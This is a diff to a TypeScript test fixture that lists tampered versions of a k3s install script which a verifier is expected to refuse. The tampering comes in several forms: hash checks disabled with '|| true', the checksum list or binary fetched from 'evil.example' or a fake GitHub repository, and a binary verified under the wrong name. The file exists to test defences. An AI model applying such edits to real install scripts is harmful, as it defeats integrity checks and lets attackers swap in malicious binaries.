@@ -66,14 +66,16 @@ export const scripts: SabotagesOfKind = [
     'a check of a hash that may fail',
     'verify/script-edited',
     line('verify_listed "$work/k3s" k3s\n', 'verify_listed "$work/k3s" k3s || true\n'),
+    'gitops-argocd',
   ),
   refused(
     'a list of hashes from elsewhere',
     'verify/step-missing',
     line(
-      'fetch https://github.com/k3s-io/k3s/releases/download/v1.36.5%2Bk3s1/sha256sum-amd64.txt',
+      'fetch https://github.com/k3s-io/k3s/releases/download/v1.37.1%2Bk3s1/sha256sum-amd64.txt',
       'fetch http://evil.example/sums',
     ),
+    'gitops-argocd',
   ),
   refused(
     'the binary from elsewhere, by the old list',
@@ -83,11 +85,16 @@ export const scripts: SabotagesOfKind = [
       'fetch https://github.com/evil/k3s/releases/download/v1.36.5%2Bk3s1/k3s "',
     ),
   ),
-  refused('the binary and the list from elsewhere', 'verify/step-missing', {
-    file,
-    find: 'https://github.com/k3s-io/k3s/releases/download/v1.36.5%2Bk3s1/sha256sum',
-    put: 'https://evil.example/v1.36.5%2Bk3s1/sha256sum',
-  }),
+  refused(
+    'the binary and the list from elsewhere',
+    'verify/step-missing',
+    {
+      file,
+      find: 'https://github.com/k3s-io/k3s/releases/download/v1.37.1%2Bk3s1/sha256sum',
+      put: 'https://evil.example/v1.37.1%2Bk3s1/sha256sum',
+    },
+    'gitops-argocd',
+  ),
   refused(
     'the binary without https',
     'verify/step-missing',
@@ -100,6 +107,7 @@ export const scripts: SabotagesOfKind = [
     'another binary under a good name',
     'verify/script-edited',
     line('verify_listed "$work/k3s" k3s\n', 'verify_listed "$work/k3s" evil\n'),
+    'gitops-argocd',
   ),
   refused(
     'an argument for the installer',
@@ -279,8 +287,8 @@ export const scripts: SabotagesOfKind = [
     'the node needs a little more memory',
     "K3s' own requirement may grow with a newer Fjord",
     line(
-      '-ge 1800 ] || fail "$memory MiB of memory; a node of this role needs 1800"',
-      '-ge 1801 ] || fail "$memory MiB of memory; a node of this role needs 1801"',
+      '"$memory" -ge 1800 ] || fail "$memory MiB of memory; nodes.oslo-1.memory asks for 1800, and a server for 1800"',
+      '"$memory" -ge 1801 ] || fail "$memory MiB of memory; nodes.oslo-1.memory asks for 1801, and a server for 1801"',
     ),
   ),
 ];
